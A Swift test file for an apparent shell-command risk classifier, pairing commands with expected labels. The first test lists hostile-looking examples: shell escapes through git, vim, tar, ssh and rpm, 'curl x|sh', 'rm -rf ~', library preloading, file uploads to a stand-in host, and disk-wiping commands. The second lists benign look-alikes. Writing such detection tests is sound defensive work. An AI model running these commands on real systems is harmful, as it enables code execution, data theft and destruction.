// SPDX-License-Identifier: Apache-2.0

import Testing

extension ProgramsTests {
    @Test func escapes() {
        Self.check(
            #"""
            git -c core.sshCommand='curl x|sh' fetch
                +escapes => sh{curl x|sh}
            vim +':!rm -rf ~' f
                read:f +escapes => sh{rm -rf ~}
            vim -c 'py import os' f
                read:f +escapes +inline-code
            nvim --headless +'lua os.execute("id")' +q
                +escapes +inline-code => sh{id}
            less +'!id' f
                read:f +escapes => sh{id}
            tar -I 'sh -c id' -xf a.tar
                read:a.tar write:. +escapes => sh{sh -c id}
            rsync -e 'sh -c id' a: b
                connect:a write:b +downloads +escapes => sh -c id a rsync --server .
            ssh -oProxyCommand='sh -c id' h
                connect:h +escapes +remote => sh{sh -c id} => shell:- on(h)
            openssl req -engine /x.so
                read:/x.so +preloads
            openssl list -providers
                -
            mysql --default-auth ../../lib
                +preloads => sql:-
            enable -f /x.so x
                read:/x.so +preloads
            sysctl 'kernel.core_pattern=|/x'
                configure:kernel.core_pattern persist:kernel.core_pattern +escapes +kernel => sh{/x}
            sysctl kernel.core_pattern=core
                configure:kernel.core_pattern +kernel
            rpm --eval '%(id)'
                +escapes +inline-code => sh{id}
            rpmquery --eval '%{lua:os.execute("id")}'
                +escapes +inline-code => sh{id}
            rake -p 'system("id")'
                +escapes +inline-code => sh{id}
            puppet apply -e 'exec { "/bin/id": }'
                +escapes +inline-code
            latexmk -e 'system("id")'
                +escapes +inline-code => sh{id}
            sqlmap -u h --eval='import os'
                +escapes +inline-code +scans
            pip config --editor 'sh -s' edit
                +escapes +opens-shell => sh{sh -s}
            cowsay -f /x.cow hi
                => perl:/x.cow
            csvtool call 'id;false' f
                read:f +escapes => sh{id;false}
            xdotool exec --sync sh
                +escapes +opens-shell => sh
            pidstat -e sh
                +escapes +opens-shell => sh{sh}
            hping3 h --file f --data 9
                read:f connect:h^ +scans +uploads
            whois -h h -p 1 data
                connect:h^ +uploads
            msgfilter -P sh -c 'id'
                => sh -c id
            zic -y /x f
                read:f +escapes => sh{/x}
            busctl --address=unixexec:path=/bin/sh
                +escapes
            systemd-run -S
                +opens-shell +services
            newgrp x
                +opens-shell => shell:-
            redis-cli config set dir /x
                write:/x** +escapes +host-settings
            redis-cli module load /x.so
                +preloads
            hg --config alias.x='!id' x
                +escapes => sh{id}
            make SHELL=/x all
                +escapes
            smbclient //h/s -c '!id'
                connect://h/s +escapes => sh{id}
            smbclient //h/s -c 'put f'
                connect://h/s^ read:f +uploads
            ab -p f http://h/
                read:f connect:http://h/^ +scans +uploads
            tftp h -c put f
                connect:h^ read:f +uploads
            lftp -c 'put f' h
                connect:h^ read:f +remote +uploads
            unzip -K a.zip
                read:a.zip +setuid
            !/bin/sh -p
                +escapes => sh{/bin/sh -p}
            :!id
                +escapes => sh{id}
            !!
                ?
            crontab -
                persist:cron +schedules
            gdb -x -
                => other:-
            python3 -c 'import ctypes; ctypes.CDLL("/x.so")'
                read:/x.so +inline-code +preloads
            ruby -e 'require "fiddle"; Fiddle.dlopen("/x.so")'
                read:/x.so +inline-code +preloads
            lua -e 'package.loadlib("/x.so","*")'
                read:/x.so +inline-code +preloads
            node -e 'process.dlopen(module,"/x.node")'
                read:… +inline-code +preloads
            node -e 'process.binding("spawn_sync")'
                +evaluates-code +inline-code
            node -e 'require("child_process")["ex"+"ec"]("id")'
                +inline-code => sh{id}
            node -e 'import("child_process").then(c=>c.exec("id"))'
                +inline-code => sh{id}
            deno eval 'new Deno.Command("rm",{args:["-rf","x"]}).spawn()'
                +inline-code => rm -rf x
            deno eval 'Deno.run({cmd:["rm","-rf","x"]})'
                +inline-code => rm -rf x
            bun -e 'Bun.spawn(["rm","-rf","x"])'
                +inline-code => rm -rf x
            php -r 'array_map("unlink", glob("*"));'
                delete:* +bulk +inline-code
            python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path("x").rglob("*")]'
                delete:… +inline-code
            node -e 'require("fs").createReadStream("f").pipe(require("http").request("http://h"))'
                read:f connect:http://h^ +inline-code +uploads
            python3 -c 'import urllib.request as r; r.urlopen("http://h", b"x")'
                connect:http://h^ +inline-code
            kubectl delete namespace x
                +destroys-infrastructure
            kubectl delete pods --all
                +bulk +destroys-infrastructure
            kubectl delete -f m.yaml
                read:m.yaml +destroys-infrastructure
            docker volume rm x
                +destroys-infrastructure
            docker rm -v x
                +destroys-infrastructure +removes-resource
            docker system prune
                +removes-resource
            aws ec2 terminate-instances --instance-ids i
                +destroys-infrastructure
            mkfs.fat -n x -h 63 /dev/sda
                write:/dev/sda +disk
            mdadm --create /dev/md0 -l 1 -n 2 /dev/sda
                write:/dev/md0 write:/dev/sda +disk
            sgdisk -p -Z /dev/sda
                write:/dev/sda +disk
            badblocks -w /dev/sda
                write:/dev/sda +disk
            cryptsetup luksFormat /dev/sda1
                write:/dev/sda1 +disk
            zfs destroy p/x
                +destroys-infrastructure +disk
            git push --force --force-with-lease
                +pushes +rewrites-history
            """#
        )
    }

    /// They look like the others, and are everyday work.
    @Test func calmLookAlikes() {
        Self.check(
            #"""
            git push --force-with-lease
                +pushes
            git merge --abort
                -
            git checkout -B new
                -
            git checkout --track x main
                -
            git checkout --unified 3 main
                -
            git restore --staged f
                -
            git grep -O x
                -
            sudo -l
                -
            sudo -v
                -
            su -V
                -
            terraform untaint x
                -
            terraform plan -out=p
                write:p
            docker rm web
                +removes-resource
            docker image prune
                +removes-resource
            kubectl delete pod x
                +removes-resource
            kubectl delete job/x
                +removes-resource
            kubectl drain n
                +removes-resource
            aws cloudwatch delete-alarms --alarm-names x
                +removes-resource
            aws ec2 stop-instances --instance-ids i
                +removes-resource
            aws s3 presign help
                -
            fdisk -l
                -
            badblocks -sv /dev/sda
                -
            hdparm -t /dev/sda
                -
            smartctl -a /dev/sda
                -
            parted /dev/sda print
                -
            mkfs.ext4 --help
                -
            xfs_repair -n /dev/sda1
                -
            btrfs filesystem show
                -
            cryptsetup open /dev/sda2 x
                -
            mdadm --detail /dev/md0
                -
            lvextend -L +1G v/x
                -
            printenv PATH
                -
            openssl s_client -connect h:443
                connect:h:443
            nc h 80
                connect:h:80
            nc -l 8080
                +listens
            ssh -i k h ls
                connect:h +remote => sh{ls} on(h)
            ssh-keygen -y -f k
                -
            ssh-add k
                -
            less +G f
                read:f
            vim +10 f
                read:f
            python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'
                +inline-code
            node -e 'console.log(/x/.exec("x"))'
                +inline-code
            npm owner ls x
                -
            npm dist-tag ls x
                -
            gcloud container clusters get-credentials c
                -
            rake test
                -
            top -b -n 1
                -
            xdotool getactivewindow
                -
            rpm --eval '%{_libdir}'
                +inline-code
            m4 -DX=1 f.m4
                => other:f.m4
            hg --config ui.username=x log
                -
            kcat -L -b h
                -
            wacli messages list
                -
            weechat
                -
            openclaw onboard -h
                -
            aa-teardown -h
                -
            age -d -o f f.age
                write:f
            pass -c x
                -
            whois example.com
                -
            make CC=clang
                -
            emacsclient -a vim f
                read:f => sh{vim}
            pg_resetwal -n x
                -
            cargo publish -n
                -
            rails destroy model x
                -
            """#
        )
    }
}
